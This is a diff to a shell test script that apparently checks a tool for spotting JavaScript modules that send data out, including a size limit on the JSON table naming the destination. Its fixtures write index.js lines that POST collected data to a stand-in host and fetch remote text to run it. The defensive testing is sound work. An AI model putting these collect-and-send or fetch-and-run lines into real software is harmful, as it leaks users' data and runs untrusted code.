@@ -81,6 +81,21 @@ say "of 64 modules all are asked whom they ask" joined
 echo 1 >p/more/61.js
 say "of 65 those that do something" not joined
 
+# JOIN_DATA_MAX: of a table in which lies where it is sent to
+begin
+printf '{"to":"https://intake.example.net"}' >p/table.json
+echo "const c = require('./collect'), t = require('./table.json'); fetch(t.to, { method: 'POST', body: c() })" >p/index.js
+spaces() { printf "%*s" $(($1 - $(stat -c %s p/table.json))) '' >>p/table.json; }
+say "a table is known" joined
+spaces $((32 << 10))
+say "one of 32 KiB too" joined
+printf ' ' >>p/table.json
+say "of one byte more it is not known what is in it" not joined
+begin
+printf '}) ({' >p/table.json
+echo "const c = require('./collect'); fetch('https://intake.example.net', { method: 'POST', body: c() }); require('./table.json')" >p/index.js
+say "what is no JSON is not put in" joined
+
 # JOIN_WAY_MAX: of one that brings a way to a program
 begin
 echo "const { run } = require('./collect'); fetch('https://intake.example.net').then(r => r.text()).then(t => run(t))" >p/index.js
